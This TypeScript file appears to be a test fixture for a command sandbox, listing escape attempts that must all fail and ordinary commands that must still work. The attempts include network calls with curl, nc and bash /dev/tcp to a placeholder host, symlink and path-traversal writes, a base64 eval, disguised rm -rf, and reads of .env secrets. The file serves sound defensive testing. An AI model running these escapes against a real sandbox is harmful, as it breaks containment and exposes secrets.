/**
 * What is tried from inside. In `command`, @OUT@ is a directory outside of the workspace, @URL@, @HOST@ and @PORT@ a server of this machine,
 * and @TOKEN@ a word of this run.
 */
export interface EscapeAttempt {
  readonly name: string
  /** What has to be installed for it. */
  readonly program: string
  /** Where it means something. Absent: everywhere. */
  readonly platform?: NodeJS.Platform
  readonly command: string
  /** What would have happened outside: the server was asked, a file was made, a file is gone, what was planted is shown. */
  readonly proof: 'asked' | 'made' | 'gone' | 'shown'
}

/** Attempts of which none may succeed. The classics come first. */
export const escapeAttempts: readonly EscapeAttempt[] = [
  { name: 'curl', program: 'curl', command: 'curl -s -m 5 @URL@/@TOKEN@', proof: 'asked' },
  { name: 'wget', program: 'wget', command: 'wget -q -T 5 -t 1 -O - @URL@/@TOKEN@', proof: 'asked' },
  {
    name: 'nc',
    program: 'nc',
    command: 'printf "GET /@TOKEN@ HTTP/1.0\\r\\n\\r\\n" | nc -w 2 @HOST@ @PORT@',
    proof: 'asked',
  },
  {
    name: 'a file like one of /etc',
    program: 'bash',
    command: 'mkdir -p @OUT@/etc; echo x > @OUT@/etc/made',
    proof: 'made',
  },
  {
    name: 'a file like one of /usr',
    program: 'cp',
    command: 'mkdir -p @OUT@/usr/bin; cp /bin/ls @OUT@/usr/bin/made',
    proof: 'made',
  },
  {
    name: 'a file like one of System32',
    program: 'tee',
    command: 'mkdir -p @OUT@/Windows/System32; echo x | tee @OUT@/Windows/System32/made',
    proof: 'made',
  },
  { name: 'bash -c', program: 'bash', command: `bash -c 'echo x > "$1"/made' - @OUT@`, proof: 'made' },
  {
    name: 'sh, its script on standard input',
    program: 'sh',
    command: 'echo "echo x > @OUT@/made" | sh',
    proof: 'made',
  },
  { name: 'python', program: 'python3', command: `python3 -c "open('@OUT@/made', 'w').write('x')"`, proof: 'made' },
  {
    name: 'eval of an encoded text',
    program: 'base64',
    command: 'eval "$(echo dG91Y2ggIiRPIi9tYWRl | (base64 -d || base64 -D))"',
    proof: 'made',
  },
  { name: 'rm -rf outside', program: 'rm', command: 'rm -rf @OUT@/kept', proof: 'gone' },
  { name: 'rm -rf in disguise', program: 'sh', command: `r=r; sh -c "\${r}m -rf @OUT@/kept"`, proof: 'gone' },
  {
    name: 'bash without a client',
    program: 'bash',
    command: 'exec 3<>/dev/tcp/@HOST@/@PORT@ && printf "GET /@TOKEN@ HTTP/1.0\\r\\n\\r\\n" >&3 && cat <&3',
    proof: 'asked',
  },
  { name: 'a symbolic link out', program: 'ln', command: 'ln -s @OUT@ door && echo x > door/made', proof: 'made' },
  {
    name: 'dots out',
    program: 'bash',
    command: 'cd src; echo x > "$(pwd -P | sed "s#/[^/]*#/..#g; s#^/##")"@OUT@/made',
    proof: 'made',
  },
  {
    name: 'the root of the process',
    program: 'bash',
    platform: 'linux',
    command: 'echo x > /proc/self/root@OUT@/made',
    proof: 'made',
  },
  { name: 'a secret of the workspace', program: 'cat', command: 'cat .env', proof: 'shown' },
  { name: 'a secret through a link', program: 'ln', command: 'ln -s .env notes; cat notes', proof: 'shown' },
  { name: 'a secret, packed', program: 'tar', command: 'tar -cf - . | tr -d "\\000"', proof: 'shown' },
]

/** Ordinary work, which has to go on: a sandbox that denies everything would pass all of the above. */
export const ordinaryWork: readonly { readonly name: string; readonly command: string; readonly output: string }[] = [
  { name: 'ls', command: 'ls src', output: 'a.txt' },
  { name: 'cat', command: 'cat src/a.txt', output: 'line of text' },
  { name: 'grep', command: 'grep -rn text src', output: 'src/a.txt:1:line of text' },
  { name: 'making files', command: 'mkdir build && echo made > build/b && mv build/b c && cat c', output: 'made' },
  { name: 'removing a file', command: 'rm src/a.txt && ls -A src', output: '' },
  {
    name: 'a commit',
    command: 'echo y > y && git add y && git commit -qm "second" && git log --format=%s -1',
    output: 'second',
  },
]
